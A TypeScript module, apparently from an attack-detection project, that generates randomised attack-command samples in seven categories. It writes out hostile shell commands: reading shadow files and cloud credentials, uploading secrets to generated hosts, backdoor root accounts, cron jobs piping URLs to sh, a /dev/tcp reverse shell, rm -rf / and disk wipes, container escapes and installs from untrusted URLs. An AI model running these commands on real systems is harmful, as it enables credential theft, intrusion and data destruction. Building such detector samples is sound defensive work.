/**
 * Attack templates, second half: credentials, accounts, persistence, firewall, destruction,
 * container escapes and package installs from URLs.
 */

import { type Template, user } from './detect-attacks.ts';
import { cmd, dropPath, host, ip, port, url } from './detect-obfuscate.ts';
import type { Rng } from './random.ts';

const key = (r: Rng) => `ssh-${r.pick(['rsa', 'ed25519'])} AAAAC3Nza${r.int(1000, 9999)}Lk7 ${user(r)}@kali`;
const unitDir = [
  '/etc/systemd/system',
  '/lib/systemd/system',
  '/usr/lib/systemd/system',
  '~/.config/systemd/user',
];
const akFiles = ['~/.ssh/authorized_keys', '/root/.ssh/authorized_keys', '/home/ubuntu/.ssh/authorized_keys'];
const role = (r: Rng) =>
  r.pick(['ec2-app-role', 'prod-web', 'AmazonSSMRoleForInstancesQuickSetup', 'ci-runner']);
const imds = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
const secretFiles = [
  '/etc/shadow',
  '/etc/gshadow',
  '~/.aws/credentials',
  '/root/.aws/credentials',
  '~/.ssh/id_rsa',
];
const reader = (r: Rng) => r.pick(['cat', 'less', 'head -50', 'strings', 'base64', 'xxd', 'tail', 'more']);
const pkgUrl = (r: Rng, ext: string) =>
  `http${r.chance(0.5) ? 's' : ''}://${host(r)}/pkgs/${r.pick(['agent', 'tools', 'libssl-fix', 'monitor'])}.${ext}`;
const disk = (r: Rng) => r.pick(['/dev/xvda', '/dev/nvme0n1', '/dev/sda', '/dev/xvda1', '/dev/nvme0n1p1']);
const image = (r: Rng) => r.pick(['alpine', 'ubuntu', 'busybox', 'debian:12', 'docker:cli']);

const credentialAccess: Template[] = [
  (r) => `${cmd(r, r.pick(['cat', 'less', 'strings']))} ${r.pick(['/etc/shadow', '/etc/gshadow'])}`,
  (r) => `${reader(r)} ${r.pick(secretFiles)}`,
  (r) => `cp ${r.pick(secretFiles)} ${dropPath(r)}`,
  (r) => `grep ${r.pick(['root', '-v "*"', 'ubuntu', '\\$6\\$'])} /etc/shadow`,
  (r) => `unshadow /etc/passwd /etc/shadow > ${dropPath(r)}`,
  (r) => `tar czf ${dropPath(r)}.tgz ${r.pick(['~/.ssh', '~/.aws', '/root/.aws', '/home/*/.ssh'])}`,
  (r) => `cp -r ${r.pick(['~/.aws', '/root/.aws', '/home/ec2-user/.aws'])} ${dropPath(r)}`,
  (r) => `${cmd(r, 'curl')} ${r.pick(['', '-s ', '-sf '])}${imds}${r.chance(0.6) ? role(r) : ''}`,
  (r) => `wget -qO- ${imds}${role(r)}`,
  (r) =>
    `TOKEN=$(curl -sX PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600") && curl -H "X-aws-ec2-metadata-token: $TOKEN" ${imds}${role(r)}`,
  (_r) => `curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI`,
  (r) => `cat /home/*/.ssh/${r.pick(['id_rsa', 'id_ed25519', 'id_ecdsa'])}`,
  (r) => `find / -name ${r.pick(['id_rsa', 'credentials', '"*.pem"', 'id_ed25519'])} 2>/dev/null`,
  (r) => `grep -ri ${r.pick(['aws_secret_access_key', 'aws_access_key_id'])} /home /root 2>/dev/null`,
  (r) => `scp ${r.pick(secretFiles)} ${user(r)}@${ip(r)}:/tmp/`,
  (r) => `curl -F "f=@${r.pick(['/etc/shadow', '/root/.aws/credentials'])}" http://${host(r)}:${port(r)}/u`,
];

const accountManipulation: Template[] = [
  (r) => `${cmd(r, 'useradd', '/usr/sbin/useradd')} -m -s /bin/bash ${user(r)}`,
  (r) => `useradd -o -u 0 -g 0 -M -d /root -s /bin/bash ${user(r)}`,
  (r) => `adduser --disabled-password --gecos "" ${user(r)}`,
  (r) =>
    `${cmd(r, 'usermod', '/usr/sbin/usermod')} -aG ${r.pick(['sudo', 'wheel', 'admin', 'docker'])} ${user(r)}`,
  (r) => `echo "${user(r)} ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers`,
  (r) => {
    const u = user(r);
    return `echo '${u} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/${r.pick([u, '90-cloud-init-users', 'zz'])}`;
  },
  (r) => `echo "${user(r)}:${r.pick(['P@ssw0rd', 'toor', 'changeme1'])}" | chpasswd`,
  (r) => `echo '${user(r)}:x:0:0::/root:/bin/bash' >> /etc/passwd`,
  (_r) => `sed -i 's/^%sudo.*/%sudo ALL=(ALL:ALL) NOPASSWD:ALL/' /etc/sudoers`,
  (r) => `echo "${user(r)} ALL=(ALL) NOPASSWD:ALL" | tee -a /etc/sudoers.d/${user(r)}`,
  (r) => `passwd -d ${r.pick(['root', 'ubuntu', 'ec2-user'])}`,
  (r) => `usermod -p '$6$${r.int(1000, 9999)}$abc' root`,
  (_r) => `cp /tmp/sudoers /etc/sudoers`,
  (r) => `useradd -G wheel ${user(r)} && echo ${user(r)}:pass123 | chpasswd`,
];

const persistence: Template[] = [
  (r) => `(crontab -l; echo "*/${r.int(1, 30)} * * * * curl -s ${url(r)} | sh") | crontab -`,
  (r) => `echo "* * * * * root ${dropPath(r)}" >> /etc/crontab`,
  (r) => `echo '@reboot ${dropPath(r)}' | ${cmd(r, 'crontab')} -`,
  (r) => `echo "*/5 * * * * root ${dropPath(r)}" > /etc/cron.d/${r.pick(['sysupdate', 'php', '0hourly2'])}`,
  (r) => `cp ${dropPath(r)} /etc/cron.${r.pick(['hourly', 'daily', 'weekly'])}/`,
  (r) => `echo "${key(r)}" >> ${r.pick(akFiles)}`,
  (r) => `cat /tmp/${r.pick(['k', 'id', 'x'])}.pub >> ${r.pick(akFiles)}`,
  (r) => `${cmd(r, 'curl')} -s ${url(r)} >> ${r.pick(akFiles)}`,
  (r) => {
    const n = r.pick(['dbus-helper', 'sys-update', 'kthreadd2', 'netmon']);
    return `printf '[Unit]\\nDescription=x\\n[Service]\\nExecStart=${dropPath(r)}\\n[Install]\\nWantedBy=multi-user.target\\n' > ${r.pick(unitDir)}/${n}.service && systemctl enable --now ${n}`;
  },
  (r) => {
    const n = r.pick(['update', 'netd', 'cachefs']);
    return `cp /tmp/${n}.service ${r.pick(unitDir)}/ && systemctl daemon-reload && systemctl enable ${n}`;
  },
  (r) => `echo '${dropPath(r)} &' >> /etc/rc.local`,
  (r) =>
    `echo 'bash -i >& /dev/tcp/${ip(r)}/${port(r)} 0>&1' >> ${r.pick(['~/.bashrc', '/etc/profile', '~/.profile'])}`,
  (r) => `ln -s ${dropPath(r)} /etc/systemd/system/multi-user.target.wants/${r.pick(['net', 'x'])}.service`,
  (r) => `echo "${dropPath(r)}" > /etc/profile.d/${r.pick(['z', 'locale2', 'perf'])}.sh`,
  (r) => `crontab ${dropPath(r)}`,
  (r) => `tee -a ${r.pick(akFiles)} <<< "${key(r)}"`,
];

const firewallFlush: Template[] = [
  (r) =>
    `${cmd(r, 'iptables', '/usr/sbin/iptables')} ${r.pick(['-F', '-X', '--flush', '-t nat -F', '-F INPUT', '-Z -F -X'])}`,
  (_r) => `iptables -P INPUT ACCEPT && iptables -P FORWARD ACCEPT && iptables -F`,
  (r) => `${r.pick(['ip6tables', 'iptables-legacy', 'iptables-nft'])} -F`,
  (_r) => `nft flush ruleset`,
  (r) => `${cmd(r, 'ufw', '/usr/sbin/ufw')} ${r.pick(['disable', '--force reset', '--force disable'])}`,
  (r) =>
    `systemctl ${r.pick(['stop', 'disable --now', 'mask'])} ${r.pick(['firewalld', 'ufw', 'iptables', 'nftables'])}`,
  (r) => `service ${r.pick(['iptables', 'firewalld', 'ufw'])} stop`,
  (_r) => `iptables -P INPUT ACCEPT; iptables -P OUTPUT ACCEPT; iptables -t mangle -F`,
];

const destructiveDelete: Template[] = [
  (r) =>
    `${cmd(r, 'rm', '/bin/rm')} -rf ${r.pick(['/', '/*', '--no-preserve-root /', '/etc', '/usr', '/boot', '/var/lib/mysql', '/home/*', '/var/lib/postgresql', '/opt'])}`,
  (r) =>
    `rm ${r.pick(['-fr', '-r -f', '-Rf', '--recursive --force'])} ${r.pick(['/', '/*', '/var/*', '/etc/', '/root'])}`,
  (r) =>
    `${cmd(r, 'dd')} if=/dev/${r.pick(['zero', 'urandom'])} of=${disk(r)} bs=${r.pick(['1M', '4M', '512'])}`,
  (r) => `shred -n ${r.int(1, 7)} -z ${disk(r)}`,
  (r) => `wipefs -a ${disk(r)}`,
  (r) => `find / -${r.pick(['delete', 'type f -delete', 'exec rm -f {} +'])}`,
  (r) => `cat /dev/urandom > ${disk(r)}`,
  (r) => `chmod -R 000 ${r.pick(['/', '/etc', '/usr/bin'])}`,
  (r) => `find /var/lib/${r.pick(['mysql', 'postgresql', 'docker'])} -type f -delete`,
  (_r) => `rm -rf ~/* ~/.*`,
];

const containerEscape: Template[] = [
  (r) =>
    `${cmd(r, 'docker')} run --rm -it --privileged -v /:/host ${image(r)} chroot /host ${r.pick(['sh', 'bash'])}`,
  (r) => `docker run -v /:/mnt --rm -it ${image(r)} chroot /mnt sh`,
  (r) => `docker run --pid=host --privileged -it ${image(r)} nsenter -t 1 -m -u -i -n sh`,
  (r) =>
    `${cmd(r, 'nsenter', '/usr/bin/nsenter')} --target 1 --mount --uts --ipc --net --pid -- ${r.pick(['bash', 'sh'])}`,
  (r) => `nsenter -t 1 -a ${r.pick(['sh', 'bash', '/bin/sh'])}`,
  (r) => `docker run -it -v /var/run/docker.sock:/var/run/docker.sock ${image(r)} sh`,
  (r) => `mount ${disk(r)} /mnt && chroot /mnt ${r.pick(['sh', 'bash', '/bin/bash'])}`,
  (r) => `${r.pick(['podman', 'nerdctl'])} run --privileged -v /:/host -it ${image(r)} sh`,
  (r) =>
    `kubectl run x${r.int(1, 99)} --image=${image(r)} --overrides='{"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine","securityContext":{"privileged":true}}]}}'`,
  (r) => `docker run --cap-add=SYS_ADMIN --security-opt apparmor=unconfined -v /:/host ${image(r)} sh`,
  (r) => `cat /proc/1/root/etc/${r.pick(['shadow', 'hostname', 'kubernetes/admin.conf'])}`,
  (_r) => `curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json`,
  (r) => `ctr run --privileged --mount type=bind,src=/,dst=/host,options=rbind ${image(r)} x sh`,
];

const packageFromUrl: Template[] = [
  (r) => `${cmd(r, 'rpm')} -${r.pick(['ivh', 'Uvh', 'i --nosignature'])} ${pkgUrl(r, 'rpm')}`,
  (r) => `${r.pick(['yum', 'dnf', 'sudo yum', 'sudo dnf'])} install -y ${pkgUrl(r, 'rpm')}`,
  (r) => `${r.pick(['pip', 'pip3', 'python3 -m pip'])} install ${pkgUrl(r, 'tar.gz')}`,
  (r) => `pip3 install git+https://${host(r)}/${user(r)}/tools.git`,
  (r) => `${r.pick(['npm install -g', 'npm i'])} ${pkgUrl(r, 'tgz')}`,
  (r) => {
    const p = `/tmp/${r.pick(['a', 'pkg', 'fix'])}.deb`;
    return `${cmd(r, 'wget')} -qO ${p} ${pkgUrl(r, 'deb')} && ${r.pick(['', 'sudo '])}dpkg -i ${p}`;
  },
  (r) => `curl -so /tmp/x.deb ${pkgUrl(r, 'deb')}; apt install -y /tmp/x.deb`,
  (r) =>
    `pip install --${r.pick(['index-url', 'extra-index-url'])} http://${ip(r)}:${port(r)}/simple ${r.pick(['requests2', 'boto4', 'colorama'])}`,
  (r) => `gem install --source http://${host(r)} ${r.pick(['rails-helper', 'json2'])}`,
  (r) => `apt-get install -y ${pkgUrl(r, 'deb')}`,
];

export const moreAttackTemplates: Record<string, Template[]> = {
  'credential-access': credentialAccess,
  'account-manipulation': accountManipulation,
  persistence,
  'firewall-flush': firewallFlush,
  'destructive-delete': destructiveDelete,
  'container-escape': containerEscape,
  'package-from-url': packageFromUrl,
};
